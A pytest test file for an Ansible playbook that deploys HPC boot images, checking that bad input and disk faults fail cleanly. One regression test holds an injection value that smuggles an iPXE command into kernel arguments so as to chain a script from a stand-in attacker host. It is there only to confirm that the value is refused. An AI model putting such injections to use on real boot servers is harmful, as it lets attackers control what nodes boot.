"""Bad input to playbooks/deploy.yml: each a clear error, and the boot tree stays as it was.

Real file systems: a read-only bind mount for the unwritable boot root and a small loop-mounted
ext2 for the full disk (both need root, as the test suite runs).
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from conftest import REPO, run_site
from deploy_support import write_inventory

sys.path.insert(0, str(REPO / "tests" / "unit" / "plugins" / "module_utils"))
from bootlink_fixtures import make_pack, tree_snapshot  # noqa: E402  pylint: disable=wrong-import-position

IMAGES = {"compute": {"layer": "base", "formats": ["cpio.zst"], "kernel_args": "quiet"}}
GOOD_NODE = {"hpc_stateless_boot_mac": "52:54:00:00:00:01"}
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="mounts need root")


def setup_site(base: Path, boot_root: Path | None = None, nodes: dict | None = None, **extra) -> dict:
    boot_root = boot_root or base / "tftp"
    inventory = write_inventory(base / "inventory", IMAGES, nodes if nodes is not None else {"n1": GOOD_NODE},
                                hpc_stateless_boot_root=str(boot_root), hpc_stateless_pack_output_dir=str(base / "out"),
                                hpc_stateless_boot_lock_timeout=0, hpc_stateless_boot_copy_loader=False, **extra)
    return {"base": base, "root": boot_root, "out": base / "out", "inventory": inventory}


def deploy(site: dict, *extra: str):
    return run_site(*extra, inventory=site["inventory"], playbook="playbooks/deploy.yml")


def deployed_v1(site: dict) -> dict[str, str]:
    make_pack(site["out"], version="v1", created="2026-01-01T00:00:00Z")
    proc = deploy(site)
    assert proc.returncode == 0, proc.stdout[-4000:]
    assert os.readlink(site["root"] / "compute") == "images/compute/v1"
    return tree_snapshot(site["root"])


def no_temp_files(root: Path) -> list[str]:
    return [str(p) for p in root.rglob(".*") if p.name not in (".hpc-stateless.lock", ".hpc-stateless-bootconfig.state")]


@pytest.mark.fault
def test_malformed_mac_is_refused_before_anything_is_published(tmp_path):
    site = setup_site(tmp_path, nodes={"n1": GOOD_NODE, "n2": {"hpc_stateless_boot_mac": "52:54:00:zz:00:02"}})
    make_pack(site["out"], version="v1")
    proc = deploy(site)
    assert proc.returncode != 0
    assert "nodes[1] (n2).mac: '52:54:00:zz:00:02' is not a MAC address" in proc.stdout
    assert not (site["root"] / "images").exists()


@pytest.mark.fault
def test_kernel_args_that_chain_a_foreign_ipxe_script_are_refused_before_anything_is_published(tmp_path):
    """Issue 25: a node's kernel_args reach the iPXE kernel line, where && / || are script syntax."""
    injection = "quiet && chain http://evil.invalid/x.ipxe ||"
    site = setup_site(tmp_path, nodes={"n1": {**GOOD_NODE, "hpc_stateless_boot_kernel_args": injection}})
    make_pack(site["out"], version="v1")
    proc = deploy(site)
    assert proc.returncode != 0
    assert "nodes[0] (n1).kernel_args: kernel argument '&&' holds '&', which iPXE or pxelinux would read as script " \
        "syntax" in proc.stdout.replace("\n", " "), proc.stdout[-3000:]
    assert not (site["root"] / "images").exists()


def test_unknown_image_is_refused(tmp_path):
    site = setup_site(tmp_path)
    make_pack(site["out"], version="v1")
    proc = deploy(site, "-e", '{"hpc_stateless_deploy_images": ["gpu"]}')
    assert proc.returncode != 0
    assert "hpc_stateless_deploy_images: gpu - not in hpc_stateless_images (known images: compute)" in proc.stdout

    site = setup_site(tmp_path / "node", nodes={"n1": {**GOOD_NODE, "hpc_stateless_boot_image": "gpu"}})
    make_pack(site["out"], version="v1")
    proc = deploy(site)
    assert proc.returncode != 0
    assert "nodes[0] (n1).image: unknown image 'gpu' (known images: compute)" in proc.stdout
    assert not (site["root"] / "images").exists()


def test_missing_pack_output_is_named(tmp_path):
    site = setup_site(tmp_path)
    proc = deploy(site)
    assert proc.returncode != 0
    assert f"src {site['out']}/compute: does not exist; run the pack step (playbooks/pack.yml) first" in proc.stdout


@pytest.mark.fault
def test_checksum_mismatch_refuses_and_old_links_stay(tmp_path):
    site = setup_site(tmp_path)
    before = deployed_v1(site)
    bad = make_pack(site["out"], version="v2", created="2026-02-01T00:00:00Z")
    artifact = bad / "compute.cpio.zst"
    flipped = bytearray(artifact.read_bytes())
    flipped[len(flipped) // 2] ^= 0x01  # one flipped bit: same size, only the checksum can tell
    artifact.write_bytes(bytes(flipped))

    proc = deploy(site)
    assert proc.returncode != 0
    assert "checksum mismatch publishing compute v2" in proc.stdout and "compute.cpio.zst" in proc.stdout
    assert tree_snapshot(site["root"]) == before
    assert no_temp_files(site["root"]) == []


@contextlib.contextmanager
def read_only(path: Path):
    subprocess.run(["mount", "--bind", str(path), str(path)], check=True)
    try:
        subprocess.run(["mount", "-o", "remount,ro,bind", str(path)], check=True)
        yield
    finally:
        subprocess.run(["umount", str(path)], check=True)


@needs_root
def test_unwritable_boot_root_is_a_clear_error(tmp_path):
    site = setup_site(tmp_path)
    before = deployed_v1(site)
    make_pack(site["out"], version="v2", created="2026-02-01T00:00:00Z")
    with read_only(site["root"]):
        proc = deploy(site)
    assert proc.returncode != 0
    assert f"boot root {site['root']} is not writable (read-only file system" in proc.stdout
    assert tree_snapshot(site["root"]) == before


@contextlib.contextmanager
def small_fs(mountpoint: Path, size_mib: int):
    image = mountpoint.parent / f"fs-{uuid.uuid4().hex[:6]}.img"
    subprocess.run(["truncate", "-s", f"{size_mib}M", str(image)], check=True)
    subprocess.run(["mkfs.ext2", "-q", "-b", "1024", "-m", "0", str(image)], check=True)
    mountpoint.mkdir()
    subprocess.run(["mount", "-o", "loop", str(image), str(mountpoint)], check=True)
    try:
        yield mountpoint
    finally:
        subprocess.run(["umount", str(mountpoint)], check=True)
        image.unlink()


def free_bytes(path: Path) -> int:
    st = os.statvfs(path)
    return st.f_bavail * st.f_frsize


@pytest.mark.fault
@needs_root
def test_full_disk_during_publish_keeps_serving_the_old_version(tmp_path):
    with small_fs(tmp_path / "tftp", 16) as root:
        site = setup_site(tmp_path, boot_root=root)
        before = deployed_v1(site)

        # Far too big: refused before copying.
        make_pack(site["out"], version="v2", created="2026-02-01T00:00:00Z", payload=b"x" * (8 * 2**20))
        proc = deploy(site)
        assert proc.returncode != 0
        assert "not enough space to publish compute v2" in proc.stdout and "The served version is unchanged" in proc.stdout
        assert tree_snapshot(root) == before

        # Just fits by file sizes, but not with the file system's own block overhead: ENOSPC mid-copy.
        free = free_bytes(root / "images" / "compute")
        payload = (free - 6 * 1024) // 4
        make_pack(site["out"], version="v3", created="2026-03-01T00:00:00Z", payload=b"y" * payload)
        proc = deploy(site, "-e", "hpc_stateless_deploy_version=v3")
        assert proc.returncode != 0
        assert "disk full while publishing compute v3" in proc.stdout, proc.stdout[-3000:]
        assert tree_snapshot(root) == before
        assert no_temp_files(root) == []
        assert (root / "compute" / "vmlinuz").read_bytes() == b"KERNEL v1"


@pytest.mark.fault
def test_second_deploy_while_one_runs_is_refused(tmp_path):
    site = setup_site(tmp_path)
    before = deployed_v1(site)
    make_pack(site["out"], version="v2", created="2026-02-01T00:00:00Z")
    # A deploy in progress holds the boot root's lock exactly as bootlink does (same code path).
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import sys, time\n"
         "from ansible_collections.hpc.stateless.plugins.module_utils._deploy.bootlink import deploy_lock\n"
         f"with deploy_lock({str(site['root'])!r}, purpose='bootlink switched compute'):\n"
         "    print('locked', flush=True)\n"
         "    time.sleep(60)\n"],
        stdout=subprocess.PIPE, text=True, env={**os.environ, "PYTHONPATH": str(REPO / ".collections")})
    try:
        assert holder.stdout.readline().strip() == "locked"
        proc = deploy(site)
    finally:
        holder.kill()
        holder.wait()
    assert proc.returncode != 0
    assert f"boot root {site['root']} is locked by another deploy (pid {holder.pid} bootlink switched compute since" \
        in proc.stdout
    assert tree_snapshot(site["root"]) == before
    # Once it is gone, the deploy goes through.
    proc = deploy(site)
    assert proc.returncode == 0 and os.readlink(site["root"] / "compute") == "images/compute/v2"
